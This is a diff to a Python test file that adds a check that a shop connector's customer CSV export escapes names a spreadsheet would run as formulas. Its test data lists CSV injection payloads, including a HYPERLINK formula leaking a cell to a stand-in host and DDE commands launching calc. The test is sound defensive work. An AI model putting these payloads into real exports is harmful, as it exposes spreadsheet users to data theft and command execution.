@@ -15,6 +15,7 @@ from redis import Redis
 
 from connector.db.storage import Storage
 from connector.db.tables import CustomerRecord, OrderRecord, Push, Shop, utcnow
+from connector.ops import exports
 from connector.ops.customers import segments
 from connector.ops.shops import change_settings
 from tests.support import AUTH, drain, form_csrf, login, paid_shopify_order, post_shopify
@@ -98,6 +99,36 @@ def test_the_filtered_list_downloads_as_csv(admin: FlaskClient, crowd: Shop) -> 
     rows = list(csv.reader(io.StringIO(text(answer))))
     assert rows[0] == ["customer", "first_name", "last_name", "email", "tier", "points", "segment", "last_order_at"]
     assert sorted(r[2] for r in rows[1:]) == sorted(["1", *(str(n) for n in range(10, 20))])
+
+
+DANGEROUS_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_csv_writes_names_a_spreadsheet_would_run_as_text(
+    admin: FlaskClient, offline_shopify_shop: Shop, redis: Redis
+) -> None:
+    """Customers name themselves as formulas through the store (Shopify customers/create)."""
+    shop = offline_shopify_shop
+    for n, name in enumerate(DANGEROUS_NAMES):
+        body = {"id": 900 + n, "email": f"evil{n}@example.com", "first_name": name, "last_name": "-5",
+                "created_at": "2026-11-01T10:00:00-05:00", "state": "enabled"}  # fmt: skip
+        post_shopify(admin, shop, "customers/create", body)
+    drain(redis)
+    rows = list(csv.reader(io.StringIO(text(admin.get(f"/admin/shops/{shop.id}/customers.csv")))))
+    firsts = {row[1] for row in rows[1:]}
+    assert firsts == {"'" + name.strip() for name in DANGEROUS_NAMES}  # the store's names come trimmed
+    assert {row[2] for row in rows[1:]} == {"-5"}  # a plain number stays a number
+    # what the store trims, a cell can still start with: every export writes cells through the same writer
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert exports.cell(start + "1+cmd") == "'" + start + "1+cmd"
+    assert [exports.cell(v) for v in ("-500", "12.50", "Ayşe", None)] == ["-500", "12.50", "Ayşe", ""]
 
 
 def test_the_api_lists_customers(client: FlaskClient, crowd: Shop) -> None:
